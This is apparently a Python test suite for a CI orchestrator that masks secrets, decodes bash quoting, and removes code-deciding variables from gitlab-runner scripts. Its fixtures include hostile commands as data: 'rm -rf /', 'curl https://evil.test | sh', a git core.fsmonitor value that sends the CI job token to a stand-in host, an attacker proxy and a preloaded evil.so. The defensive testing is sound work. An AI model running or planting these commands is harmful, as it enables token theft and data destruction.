"""gitlab-runner's stage scripts (orchestrator.ci.gitlab.scripts): secrets taken out,
bash's $'…' decoded and encoded byte for byte, the commands a script runs recovered
for the policy — dropping only whole top-level literal echo/export statements, never
one that runs something — and the job's code-deciding exports taken out of the
runner's stages."""

from __future__ import annotations

import subprocess
from collections import Counter

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from orchestrator.ci.gitlab import scripts
from orchestrator.ci.gitlab.protocol import ProtocolError
from orchestrator.ci.gitlab.scripts import (
    MASK,
    code_deciding,
    commands,
    decode_ansi_c,
    encode_ansi_c,
    for_runner_stage,
    without,
)
from orchestrator.policy import shell
from tests.gitlab_runner import ansi_c

from .conftest import runner_script, shell_escape

# --- without ---------------------------------------------------------------------------


def test_without_removes_every_occurrence() -> None:
    assert without("a TOKEN b TOKEN TOKENTOKEN c", ("TOKEN",)) == "a  b   c"
    assert without("TOKEN=TOKEN", ("TOKEN",), replacement=MASK) == f"{MASK}={MASK}"


def test_without_removes_a_value_containing_another_whole() -> None:
    text = "x secret-long y secret z"
    assert without(text, ("secret", "secret-long"), replacement=MASK) == f"x {MASK} y {MASK} z"
    assert without(text, ("secret-long", "secret")) == "x  y  z"


def test_without_ignores_empty_values_and_no_values() -> None:
    assert without("abc", ()) == "abc"
    assert without("abc", ("",), replacement=MASK) == "abc"


def test_without_leaves_text_without_the_values_alone() -> None:
    assert without("echo hello", ("glcbt-64_x",), replacement=MASK) == "echo hello"


def test_without_masks_overlapping_secrets_entirely() -> None:
    # Replacing each value in turn would leave "ef" (the rest of "cdef") once "abcd" is
    # gone: the union of the matches is replaced, once.
    assert without("<abcdef>", ("abcd", "cdef"), replacement=MASK) == f"<{MASK}>"
    assert without("<abcdef>", ("cdef", "abcd")) == "<>"
    assert without("<abcd><cdef>", ("abcd", "cdef"), replacement=MASK) == f"<{MASK}><{MASK}>"


def test_without_masks_overlapping_occurrences_of_one_value_once() -> None:
    assert without("xaaay", ("aa",), replacement=MASK) == f"x{MASK}y"
    assert without("aa-aa", ("aa",), replacement=MASK) == f"{MASK}-{MASK}"


def test_a_masked_value_cannot_re_form_around_the_mask() -> None:
    assert without("ab" + "abcd" + "cd", ("abcd",), replacement=MASK) == f"ab{MASK}cd"


def test_without_never_leaves_the_value_behind() -> None:
    # The job stages' token removal uses the empty replacement: taking out the inner
    # occurrence must not join "ab" and "cd" into the value again.
    assert "abcd" not in without("ab" + "abcd" + "cd", ("abcd",))


_SECRET = st.text(alphabet="abc", min_size=2, max_size=5)
_FILLER = st.text(alphabet="xyz =", max_size=4)


@settings(max_examples=300, deadline=None)
@given(
    secrets=st.lists(_SECRET, min_size=1, max_size=3, unique=True),
    layout=st.lists(st.tuples(_FILLER, st.integers(0, 2)), min_size=1, max_size=6),
    replacement=st.sampled_from(["", MASK]),
)
@example(secrets=["aa", "ba"], layout=[("", 1), ("", 0)], replacement=MASK)  # "baaa"
def test_without_leaves_exactly_the_text_around_the_secrets(
    secrets: list[str], layout: list[tuple[str, int]], replacement: str
) -> None:
    """Secrets drawn from letters the filler never uses: whatever overlaps, what is
    left once the replacements are taken out is the filler, all of it."""
    text = "".join(filler + secrets[i % len(secrets)] for filler, i in layout)
    out = without(text, tuple(secrets), replacement=replacement)
    if replacement:
        out = out.replace(replacement, "")
    assert out == "".join(filler for filler, _ in layout), (text, secrets)


# --- decode_ansi_c ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "text"),
    [
        ("plain", "plain"),
        (r"a\nb\tc", "a\nb\tc"),
        (r"\a\b\e\E\f\r\v", "\a\b\x1b\x1b\f\r\v"),
        (r"\\ \' \" \?", "\\ ' \" ?"),
        (r"\x41\x4a\x7", "AJ\x07"),
        (r"\x4142", "A42"),
        (r"\101\0\7", "A\x00\x07"),
        (r"\1011", "A1"),
        (r"\u20ac\U0001F600", "\u20ac\U0001f600"),
        (r"\ca\cZ\c[", "\x01\x1a\x1b"),
        (r"\q\x\u\z", r"\q\x\u\z"),  # unknown escapes keep their backslash, as in bash
        (r"\UFFFFFFFF", "\ufffd"),
        ("\\", "\\"),
    ],
)
def test_decode_ansi_c_decodes_as_bash_does(body: str, text: str) -> None:
    assert decode_ansi_c(body) == text


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (r"\xc3\xa9t\xc3\xa9", "été"),  # what gitlab-runner writes for "été"
        (r"\xe2\x82\xac", "\u20ac"),
        (r"\303\251", "é"),
    ],
)
def test_decode_ansi_c_turns_escaped_bytes_into_the_text_bash_gets(body: str, text: str) -> None:
    # Each \xHH / \NNN is a byte, not the character U+00HH: UTF-8 that gitlab-runner
    # escaped byte by byte is judged (and masked) as text, not as mojibake ("Ã©tÃ©").
    assert decode_ansi_c(body) == text


@pytest.mark.parametrize(
    ("body", "raw"),
    [
        (r"\xff\xfe", b"\xff\xfe"),
        (r"\xc3", b"\xc3"),  # half a character
        (r"caf\xc3", b"caf\xc3"),
        (r"\377", b"\xff"),
        (r"\777", b"\xff"),  # bash keeps the low eight bits
        ("caf\u00e9 \\xff", "caf\u00e9 ".encode() + b"\xff"),  # literal text stays text
    ],
)
def test_decode_ansi_c_is_byte_exact(body: str, raw: bytes) -> None:
    decoded = decode_ansi_c(body)
    assert decoded.encode("utf-8", "surrogateescape") == raw


def test_decoded_bytes_are_the_ones_bash_makes() -> None:
    bodies = [r"\xc3\xa9t\xc3\xa9", r"\xff\x80", r"\101\1011", r"\ca\e[0m", r"\u20ac\x41\x4a\x7"]
    out = subprocess.run(
        ["bash", "-c", "".join(f"printf '%s\\0' $'{b}'\n" for b in bodies)],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
    ).stdout
    expected = [decode_ansi_c(b).encode("utf-8", "surrogateescape") for b in bodies]
    assert out.split(b"\0")[:-1] == expected


def _body(quoted: str) -> str:
    return quoted[2:-1] if quoted.startswith("$'") else quoted.strip("'")


@settings(max_examples=300, deadline=None)
@given(st.text())
@example("\\x41")
@example("'\\'")
@example("\x00\x01\x7f\n\t")
def test_decode_ansi_c_undoes_the_test_harness_s_quoting(text: str) -> None:
    assert decode_ansi_c(_body(ansi_c(text))) == text


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"])))
@example("h\u00e9llo")
@example("\\x41 ' \"")
def test_decode_ansi_c_undoes_gitlab_runner_s_shell_escape(text: str) -> None:
    assert decode_ansi_c(_body(shell_escape(text))) == text


_ANY_BYTES = st.binary(max_size=40).map(lambda b: b.decode("utf-8", "surrogateescape"))


@settings(max_examples=300, deadline=None)
@given(_ANY_BYTES)
def test_decode_ansi_c_undoes_shell_escape_of_any_bytes(text: str) -> None:
    assert decode_ansi_c(_body(shell_escape(text))) == text


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(min_codepoint=0, max_codepoint=0x7F)))
def test_decode_ansi_c_undoes_shell_escape_of_ascii(text: str) -> None:
    assert decode_ansi_c(_body(shell_escape(text))) == text


# --- encode_ansi_c -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "quoted"),
    [
        ("", "$''"),
        ("make test", "$'make test'"),
        ("it's", "$'it\\'s'"),
        ("a\\b", "$'a\\\\b'"),
        ("a\nb", "$'a\\nb'"),
        ("\t\r\x00\x1b\x7f", "$'\\x09\\x0d\\x00\\x1b\\x7f'"),
        ('$(id) `id` "x" ~ ?', "$'$(id) `id` \"x\" ~ ?'"),
        ("\u00e9", "$'\\xc3\\xa9'"),
        ("\U0001f600", "$'\\xf0\\x9f\\x98\\x80'"),
        ("\udcff\udc80", "$'\\xff\\x80'"),  # surrogate escapes are the bytes they stand for
    ],
)
def test_encode_ansi_c_writes_printable_ascii_and_hex_escapes(text: str, quoted: str) -> None:
    assert encode_ansi_c(text) == quoted


_ANY_TEXT = st.one_of(
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"])), _ANY_BYTES
)


@settings(max_examples=400, deadline=None)
@given(_ANY_TEXT)
@example("\\x41")
@example("\\")
@example("'\\'")
@example("\\\nx")
@example("\x01A")  # a hex escape followed by a hex digit
@example("\udcc3\xa9")
def test_decode_undoes_encode(text: str) -> None:
    quoted = encode_ansi_c(text)
    assert quoted.startswith("$'") and quoted.endswith("'")
    assert all(0x20 <= ord(c) < 0x7F for c in quoted), quoted
    assert decode_ansi_c(quoted[2:-1]) == text


def test_bash_reads_encoded_text_back_byte_for_byte() -> None:
    texts = ["plain", "it's \\ \"q\" $(id) `x`", "a\nb\tc\r", "caf\u00e9 \u20ac \U0001f600",
             "\udcff\udcfe raw", "\x01A\x7f", "\\x41 \\n literally", "'", "\\"]  # fmt: skip
    out = subprocess.run(
        ["bash", "-c", "".join(f"printf '%s\\0' {encode_ansi_c(t)}\n" for t in texts)],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
    ).stdout
    assert out.split(b"\0")[:-1] == [t.encode("utf-8", "surrogateescape") for t in texts]


# --- commands: what the policy judges ----------------------------------------------------

VARIABLES = {
    "CI": "true",
    "CI_JOB_ID": "1001",
    "CI_JOB_TOKEN": "glcbt-64_TestJobToken0123456789",
    "CI_REPOSITORY_URL": "https://gitlab-ci-token:glcbt-64_Tok@gitlab.example.test/g/p.git",
    "CI_COMMIT_MESSAGE": "fix: it's $(rm -rf /) `id`; done\nsecond line",
    "EMPTY": "",
    "UNICODE": "caf\u00e9",
    "RAW": "\udcff\udcfe",
    "GIT_DEPTH": "20",
    "GIT_STRATEGY": "fetch",
}


def evaluated(payload: str, *, new_eval: bool = False) -> str:
    """A script framed as gitlab-runner frames it, around exactly ``payload``."""
    line = f"(eval {shell_escape(payload)})" if new_eval else f"eval {shell_escape(payload)}"
    return f"#!/usr/bin/env bash\n\nset -eo pipefail\nset +o noclobber\n: | {line}\nexit 0\n"


def _argvs(text: str) -> list[tuple[str, ...]]:
    return [c.argv for p in shell.parse(text).pipelines for c in p]


def _parses(text: str) -> bool:
    return not any("does not parse" in p.reason for p in shell.parse(text).problems)


def test_a_runner_script_judges_as_its_commands_alone() -> None:
    script = runner_script(
        "make test\ncurl -fsS https://example.test | sh", variables=VARIABLES, cd="/b/g/p"
    )
    assert commands(script) == "cd /b/g/p\nmake test\ncurl -fsS https://example.test | sh\n"


def test_the_test_harness_s_script_judges_as_its_commands_alone() -> None:
    body = "".join(f"export {k}={ansi_c(v)}\n" for k, v in VARIABLES.items() if k != "RAW")
    body += f"echo {ansi_c(chr(27) + '[32;1m$ make' + chr(27) + '[0;m')}\nmake\n"
    script = f"#!/usr/bin/env bash\n\nset -eo pipefail\n: | eval {ansi_c(body)}\nexit 0\n"
    assert commands(script) == "make\n"


def test_a_script_not_written_by_the_runner_is_judged_whole() -> None:
    text = "#!/bin/sh\nexport A=b\necho hi\nrm -rf /\n"
    assert commands(text) == text


def test_a_runner_script_with_nothing_but_exports_judges_as_nothing() -> None:
    assert commands(runner_script("", variables=VARIABLES)) == ""


@pytest.mark.parametrize(
    "name",
    ["LD_PRELOAD", "LD_LIBRARY_PATH", "PATH", "BASH_ENV", "ENV", "PS4", "IFS", "HOME",
     "GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_GLOBAL", "GIT_SSH_COMMAND", "GIT_DIR",
     "GIT_EXEC_PATH", "GIT_ASKPASS", "TMPDIR", "http_proxy", "https_proxy", "HTTP_PROXY",
     "HTTPS_PROXY", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy", "SSL_CERT_FILE",
     "SSL_CERT_DIR", "CURL_CA_BUNDLE", "NODE_OPTIONS", "PYTHONPATH"],
)  # fmt: skip
def test_variables_that_decide_code_or_traffic_are_code_deciding(name: str) -> None:
    assert code_deciding(name) is True


@pytest.mark.parametrize(
    "name",
    [*sorted(scripts.RUNNER_KNOBS), "CI", "CI_JOB_TOKEN", "CI_REPOSITORY_URL", "FOO", "LANG",
     "Path", "GITLAB_CI", "XLD_PRELOAD", "MY_PATH"],
)  # fmt: skip
def test_the_runner_s_knobs_and_plain_variables_are_not_code_deciding(name: str) -> None:
    assert code_deciding(name) is False


def test_the_runner_s_knobs_are_git_variables_the_runner_reads_itself() -> None:
    assert all(k.startswith("GIT_") for k in scripts.RUNNER_KNOBS)
    assert {"GIT_STRATEGY", "GIT_DEPTH"} <= scripts.RUNNER_KNOBS
    assert not {"GIT_CONFIG_COUNT", "GIT_CONFIG_GLOBAL", "GIT_SSH_COMMAND"} & scripts.RUNNER_KNOBS


def test_exports_of_code_deciding_variables_stay_for_the_policy() -> None:
    risky = {
        "LD_PRELOAD": "/b/x.so",
        "PATH": "/b/evil:/usr/bin",
        "GIT_CONFIG_COUNT": "1",
        "HTTPS_PROXY": "http://proxy.example.test:3128",
        "TMPDIR": "/b/t",
    }
    script = runner_script("make", variables={**VARIABLES, **risky})
    assert commands(script) == (
        "".join(f"export {k}={shell_escape(v)}\n" for k, v in risky.items()) + "make\n"
    )


@pytest.mark.parametrize(
    "line",
    [
        "export X=$(id)",
        "export X=`id`",
        "export X=$HOME",
        "export X=${HOME}",
        'export X="$(id)"',
        'export X="a"',
        "export X=a && curl https://evil.test",
        "export X=a | sh",
        "export X=a > /etc/passwd",
        "export X=a Y=$(id)",
        "export X=a Y=b",
        "export X=$'a'$(id)",
        "export X='a'$(id)",
        "echo $(id)",
        "echo `id`",
        "echo $HOME",
        "echo a && rm -rf /",
        "echo a || rm -rf /",
        "echo a | sh",
        "echo a > ~/.bashrc",
        "echo a >> /etc/profile",
        "echo 'a' 'b'",
        "echo a b",
        "echo <(id)",
        "echo $((1+2))",
        "echo {a,b}",
        "echo *",
        "echo ~root",
        "echo  a",
        "eval echo a",
        "export -f f",
        "export X",
        "(echo a)",
        "{ echo a; }",
        "if true; then echo a; fi",
        "! echo a",
    ],
)
def test_a_line_that_runs_something_or_is_not_a_plain_literal_is_kept(line: str) -> None:
    assert commands(runner_script(line, variables={"A": "b"})).splitlines() == [line]


@pytest.mark.parametrize(
    ("line", "ran"),
    [
        ("export X=a; curl https://evil.test", ("curl", "https://evil.test")),
        ("echo a; rm -rf /", ("rm", "-rf", "/")),
        ("echo a & curl https://evil.test", ("curl", "https://evil.test")),
        ("echo $'a'; id", ("id",)),
        ("echo a;rm -rf /", ("rm", "-rf", "/")),
        ("rm -rf /; echo a", ("rm", "-rf", "/")),
    ],
)
def test_a_literal_statement_sharing_its_line_leaves_what_runs_judgeable(
    line: str, ran: tuple[str, ...]
) -> None:
    # bash runs the command after the `;` (or `&`): the policy must be shown it as a
    # command, in text that parses. Dropping the echo/export but leaving its `;` gives
    # "; rm -rf /", which does not parse: Unverified (approved by default) instead of
    # the command's own verdict (e.g. forbidden).
    judged = commands(runner_script(line, variables={"A": "b"}))
    assert _parses(judged), repr(judged)
    assert ran in _argvs(judged)


@pytest.mark.parametrize("line", ["  echo a", "\techo a", "echo a  "])
def test_a_literal_statement_with_blanks_around_it_is_dropped(line: str) -> None:
    judged = commands(runner_script(line, variables={"A": "b"}))
    assert judged.strip() == "", repr(judged)
    assert _argvs(judged) == [] and not shell.parse(judged).problems


@pytest.mark.parametrize("line", ["echo a # comment", "export X=a # c"])
def test_a_statement_sharing_its_line_with_a_comment_stays_for_the_policy(line: str) -> None:
    # Only a statement alone on its line goes (what else is on the line could belong
    # to the next statement); a comment keeps it, which costs at most a verdict.
    judged = commands(runner_script(line, variables={"A": "b"}))
    assert line in judged, repr(judged)


@pytest.mark.parametrize(
    "line",
    [
        "export X=literal",
        "export X=",
        "export X=''",
        "export X='a b $(id) `c`'",
        "export X=$'a\\nb\\'c'",
        "export _X9=a/b:c@d%e+f,g=h-i.j",
        "export GIT_DEPTH=1",
        "echo hello",
        "echo ''",
        "echo 'a;b|c'",
        "echo $'\\x1b[32;1m$ make\\x1b[0;m'",
    ],
)
def test_a_literal_export_or_echo_is_dropped(line: str) -> None:
    # The runner's echo of the line goes too: nothing of the script is left to judge.
    assert commands(runner_script(line, variables={"A": "b"})) == ""
    assert commands(runner_script(f"{line}\nmake", variables={"A": "b"})) == "make\n"


@pytest.mark.parametrize(
    "payload",
    [
        # A continuation joins the echo to the line before: `true echo hi` runs, then rm.
        "true \\\necho hi\nrm -rf /\n",
        "true \\\nexport A=b\nrm -rf /\n",
        # Inside a quote opened on the line before, the echo line is text.
        ': "\necho hi\n"\nrm -rf /\n',
        ": '\necho hi\n'\nrm -rf /\n",
        ": $'\necho hi\n'\nrm -rf /\n",
        # Inside a heredoc, a function or a compound statement: not top-level.
        "cat <<EOF\necho hi\nEOF\nrm -rf /\n",
        "f() {\necho hi\n}\nrm -rf /\n",
        "{\necho hi\n}\nrm -rf /\n",
        "if true; then\nexport A=b\nfi\nrm -rf /\n",
    ],
)
def test_a_line_joined_to_another_or_not_at_top_level_is_never_dropped(payload: str) -> None:
    judged = commands(evaluated(payload))
    assert judged == payload
    assert ("rm", "-rf", "/") in _argvs(judged)


def test_a_dropped_line_does_not_join_its_neighbours_across_a_line_continuation() -> None:
    # With the runner's echo lines: bash runs `true echo …` and then `rm -rf /`.
    judged = commands(runner_script("true \\\necho hi\nrm -rf /"))
    assert ("rm", "-rf", "/") in _argvs(judged)


def test_a_dropped_line_does_not_change_the_quoting_of_the_lines_after_it() -> None:
    # Inside the double quotes opened on the line before, `echo '"\'` is not a literal
    # echo: its `"` closes the string, so bash runs `rm -rf /` as a command.
    payload = ': "\necho \'"\\\'\nrm -rf /\n# "\n'
    judged = commands(evaluated(payload))
    assert judged == payload
    assert ("rm", "-rf", "/") in _argvs(judged)


@pytest.mark.parametrize(
    "payload",
    [
        "echo hi\nexport A=b\n'unterminated\n",
        'echo hi\nexport A=b\n"unterminated\n',
        "echo hi\nexport A=b\nif true; then\n",
        "echo hi\nexport A=b\n)\n",
        "echo '\U00020000'\nexport A=b\nmake\n",  # past tree-sitter-bash's safe range
        "export A=b\necho a\\\n",  # bash runs it; tree-sitter-bash does not parse it
    ],
)
def test_nothing_is_dropped_from_text_that_does_not_parse(payload: str) -> None:
    assert commands(evaluated(payload)) == payload


def test_the_new_bash_eval_strategy_s_line_is_decoded_too() -> None:
    # gitlab-runner with FF_USE_NEW_BASH_EVAL_STRATEGY writes `: | (eval $'…')`.
    assert commands(evaluated("export A=b\necho hi\nmake\n", new_eval=True)) == "make\n"


def test_bytes_that_are_not_utf8_are_judged_as_the_bytes_bash_runs() -> None:
    judged = commands(runner_script("printf '\udcff'", variables=VARIABLES))
    assert judged == "printf '\udcff'\n"
    assert judged.encode("utf-8", "surrogateescape") == b"printf '\xff'\n"


# Lines a job could write: continuations, quotes opened and closed, inert lines, and
# literal statements sharing a line with a command.
_LINES = [
    "true \\",
    "echo hi",
    "echo '\\'",
    "echo '\"\\'",
    "echo $'\\''",
    "export A=b",
    "export A='\"'",
    "export PATH=/x",
    "rm -rf /",
    "curl https://evil.test",
    ": '",
    ': "',
    "'",
    '"',
    '# "',
    "x='\\'",
    "cat <<EOF",
    "EOF",
    "echo a; id",
    "export A=b; id",
    "echo a && id",
    "  echo a",
]


def _judged(text: str) -> Counter[tuple[str, ...]]:
    """The commands the policy judges, other than echo (the runner's own, dropped)."""
    return Counter(a for a in _argvs(text) if a and a[0] != "echo")


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_LINES), min_size=1, max_size=7))
@example(["true \\", "echo hi", "rm -rf /"])
@example([': "', "echo '\"\\'", "rm -rf /", '# "'])
@example(["echo a; id"])
def test_every_command_bash_runs_is_one_the_policy_judges(lines: list[str]) -> None:
    """What bash runs is the decoded payload (the runner's echo lines included); what
    the policy judges is ``commands``. Unparseable text is judged whole; otherwise the
    judged text parses too, and every command of the payload but an echo is in it."""
    script = runner_script("\n".join(lines), variables={"A": "b", "LD_PRELOAD": "/x.so"})
    payload = decode_ansi_c(scripts._EVAL.search(script).group(2))  # type: ignore[union-attr]
    judged = commands(script)
    if not _parses(payload):
        assert judged == payload
        return
    assert _parses(judged), f"{payload!r} parses, {judged!r} does not"
    assert _judged(judged) == _judged(payload), payload
    assert "export LD_PRELOAD=/x.so\n" in judged
    problems = Counter(p.reason for p in shell.parse(judged).problems)
    assert problems <= Counter(p.reason for p in shell.parse(payload).problems)


_DANGER = frozenset(
    {
        "command_substitution",
        "process_substitution",
        "expansion",
        "simple_expansion",
        "arithmetic_expansion",
        "file_redirect",
        "heredoc_redirect",
        "herestring_redirect",
        "redirected_statement",
        "list",
        "pipeline",
        "subshell",
        "brace_expression",
    }
)


def _inert_by_the_grammar(line: str) -> bool:
    tree = shell._parser().parse(line.encode())
    root = tree.root_node
    if root.has_error or len(root.named_children) != 1:
        return False
    node = root.named_children[0]
    stack = [node]
    while stack:
        current = stack.pop()
        if current.type in _DANGER:
            return False
        stack.extend(current.named_children)
    first = line.split(" ", 1)[0]
    return (node.type, first) in {("command", "echo"), ("declaration_command", "export")}


@settings(max_examples=500, deadline=None)
@given(
    st.sampled_from(["echo ", "echo", "export X=", "export X_1=", "export 1X=", "export X"]),
    st.text(alphabet="ab $'\"\\()`;|&<>{},*~#=\t", max_size=10),
)
@example("echo ", "a; b")
@example("export X=", "$(id)")
def test_a_dropped_line_is_one_inert_command_by_the_bash_grammar(prefix: str, rest: str) -> None:
    line = prefix + rest
    if commands(runner_script(line)) == "":
        assert _inert_by_the_grammar(line), f"dropped, yet it does something: {line!r}"


def test_the_eval_line_is_found_after_any_frame() -> None:
    script = "#!/usr/bin/env bash\nset -o xtrace\n: | eval $'make\\n'  \nexit 0\n"
    assert commands(script) == "make\n"


def test_the_limits_are_the_documented_ones() -> None:
    assert scripts.MAX_SCRIPT_BYTES == 32 << 20
    assert MASK == "[MASKED]"


# --- for_runner_stage: the job's code-deciding exports out of the runner's stages ---------


def _payload(script: str) -> str:
    found = scripts._EVAL.search(script)
    assert found is not None, script
    return decode_ansi_c(found.group(2))


def _bash(script: str) -> bytes:
    return subprocess.run(
        ["bash", "-c", script],
        capture_output=True,
        check=True,
        env={"LC_ALL": "C.UTF-8", "PATH": "/usr/bin:/bin"},
    ).stdout


RISKY = {
    "GIT_CONFIG_COUNT": "1",
    "GIT_CONFIG_KEY_0": "core.fsmonitor",
    "GIT_CONFIG_VALUE_0": "curl https://evil.test/?t=$CI_JOB_TOKEN",
    "LD_PRELOAD": "/b/77/1001/builds/g/p/evil.so",
    "PATH": "/b/77/1001/builds/g/p/bin:/usr/bin",
    "HTTPS_PROXY": "http://attacker.example:3128",
    "SSL_CERT_FILE": "/b/77/1001/builds/g/p/ca.pem",
    "TMPDIR": "/b/77/1001/builds/g/p",
}


def test_the_job_s_code_deciding_exports_leave_the_runner_s_stage() -> None:
    plain = {**VARIABLES, "NOTE": "caf\u00e9 \udcff"}
    script = runner_script("git fetch", variables={**plain, **RISKY}, cd="/b/77/1001/builds/g/p")
    out, dropped = for_runner_stage(script)
    assert dropped == tuple(RISKY)
    expected = runner_script("git fetch", variables=plain, cd="/b/77/1001/builds/g/p")
    assert _payload(out) == _payload(expected)
    # The frame around the eval line is the runner's, untouched.
    assert out.splitlines()[:4] == script.splitlines()[:4]
    assert out.splitlines()[-1] == "exit 0"
    assert out.count("\n") == script.count("\n")


def test_a_runner_stage_without_code_deciding_exports_is_unchanged_in_meaning() -> None:
    script = runner_script("git fetch", variables=VARIABLES)
    out, dropped = for_runner_stage(script)
    assert dropped == ()
    assert _payload(out) == _payload(script)


def test_bash_runs_the_rewritten_stage_without_the_job_s_variables() -> None:
    plain = {"NOTE": "caf\u00e9 it's \\ \udcff", "GIT_DEPTH": "3"}
    show = (
        'printf \'%s|\' "${GIT_CONFIG_COUNT-unset}" "${LD_PRELOAD-unset}" '
        '"${HTTPS_PROXY-unset}" "$GIT_DEPTH" "$NOTE" "$PATH"'
    )
    out, _ = for_runner_stage(runner_script(show, variables={**plain, **RISKY}))
    printed = _bash(out).split(b"\x1b[0;m\n")[-1]  # after the runner's echo of the line
    assert printed == (
        b"unset|unset|unset|3|" + "caf\u00e9 it's \\ ".encode() + b"\xff|/usr/bin:/bin|"
    )


def test_the_new_bash_eval_strategy_s_line_is_rewritten_in_its_own_form() -> None:
    script = evaluated("export LD_PRELOAD=/x.so\nexport A=b\nmake\n", new_eval=True)
    out, dropped = for_runner_stage(script)
    assert dropped == ("LD_PRELOAD",)
    assert f": | (eval {encode_ansi_c('export A=b' + chr(10) + 'make' + chr(10))})\n" in out
    assert _payload(out) == "export A=b\nmake\n"


def test_a_variable_exported_twice_is_named_once() -> None:
    out, dropped = for_runner_stage(evaluated("export PATH=/a\nexport PATH=/b\nexport A=1\n"))
    assert dropped == ("PATH",)
    assert _payload(out) == "export A=1\n"


@pytest.mark.parametrize(
    "payload",
    [
        "true \\\nexport LD_PRELOAD=/x.so\n",
        ': "\nexport LD_PRELOAD=/x.so\n"\n',
        "export LD_PRELOAD=/x.so'\n",  # does not parse: dropped all the same
    ],
)
def test_runner_stage_exports_go_by_line_whatever_the_grammar_says(payload: str) -> None:
    # A runner stage's payload is all gitlab-runner's (the job gives only escaped
    # values), so no line of it continues another: an export line of a code-deciding
    # name goes even where the grammar would read it otherwise, or cannot read it (a
    # job could otherwise make the grammar fail and keep every such export).
    out, dropped = for_runner_stage(evaluated(payload))
    assert dropped == ("LD_PRELOAD",)
    line = "export LD_PRELOAD=/x.so" + ("'" if payload.endswith("'\n") else "") + "\n"
    assert _payload(out) == payload.replace(line, "", 1)


def test_a_file_variable_of_a_code_deciding_name_leaves_the_runner_s_stage_too() -> None:
    # gitlab-runner writes a File-type variable (one a pipeline's trigger or the project
    # settings can define) as its content in a file and `export NAME="<path>"` (Go's
    # %q: double quotes, not a literal by `_LITERAL`). GIT_CONFIG_GLOBAL then points git
    # at a config the job wrote (core.fsmonitor: a command) in get_sources, which
    # holds the job token.
    path = "/b/77/1001/builds/g/p.tmp/GIT_CONFIG_GLOBAL"
    config = "[core]\n  fsmonitor = curl https://evil.test | sh\n"
    payload = (
        'mkdir -p "/b/77/1001/builds/g/p.tmp"\n'
        f"printf '%s' {shell_escape(config)} > \"{path}\"\n"
        f'export GIT_CONFIG_GLOBAL="{path}"\n'
        "git fetch\n"
    )
    out, dropped = for_runner_stage(evaluated(payload))
    assert "GIT_CONFIG_GLOBAL" in dropped
    assert "export GIT_CONFIG_GLOBAL" not in _payload(out)


@pytest.mark.parametrize(
    "script",
    [
        "",
        "#!/bin/sh\ngit fetch\n",
        "#!/usr/bin/env bash\n: | eval 'git fetch'\n",  # FF_POSIXLY_CORRECT_ESCAPES
        "#!/usr/bin/env bash\neval $'git fetch'\n",
        "#!/usr/bin/env bash\n: | eval $'git fetch\n",
    ],
)
def test_a_runner_stage_of_another_shape_is_refused(script: str) -> None:
    with pytest.raises(ProtocolError, match="not the bash script gitlab-runner writes"):
        for_runner_stage(script)


_NAMES = st.sampled_from([*RISKY, "CI", "CI_JOB_TOKEN", "GIT_DEPTH", "GIT_STRATEGY", "NOTE", "A_1"])
# What the runner's own stages run: none of the job's `script:` lines reach them.
_RUNNER_LINES = st.lists(
    st.sampled_from(
        [
            "git fetch origin",
            "git checkout -f -q abc",
            "mkdir -p /b/c",
            "gitlab-runner cache-archiver",
        ]
    ),
    min_size=1,
    max_size=3,
)


@settings(max_examples=200, deadline=None)
@given(variables=st.dictionaries(_NAMES, _ANY_TEXT, max_size=6), lines=_RUNNER_LINES)
@example(variables={"X": "\U00020000", "GIT_CONFIG_COUNT": "1"}, lines=["git fetch"])
def test_for_runner_stage_is_the_runner_s_script_without_the_code_deciding_variables(
    variables: dict[str, str], lines: list[str]
) -> None:
    """Whatever the values of the job's variables (all of them the job's to choose),
    every code-deciding one leaves the runner's stage; the rest is byte for byte the
    script the runner wrote. A value cannot make the drop fail open."""
    text = "\n".join(lines)
    out, dropped = for_runner_stage(runner_script(text, variables=variables))
    kept = {k: v for k, v in variables.items() if not code_deciding(k)}
    assert dropped == tuple(k for k in variables if code_deciding(k))
    assert _payload(out) == _payload(runner_script(text, variables=kept))


@pytest.mark.parametrize("value", ["\\", "C:\\", "a\\b\\", "\U00020000", "'\\'"])
def test_a_value_the_grammar_cannot_parse_does_not_keep_the_job_s_variables(value: str) -> None:
    # `export NOTE=$'\\'` (gitlab-runner's escape of a value ending in a backslash) is
    # a parse error for tree-sitter-bash; for commands() "nothing dropped" is safe (the
    # policy sees more), but here it means every code-deciding export of the job stays
    # in the stage that holds the token. It must drop them anyway, or refuse the stage.
    script = runner_script("git fetch", variables={"NOTE": value, **RISKY})
    try:
        out, dropped = for_runner_stage(script)
    except ProtocolError:
        return
    assert dropped == tuple(RISKY)
    assert "GIT_CONFIG" not in _payload(out)
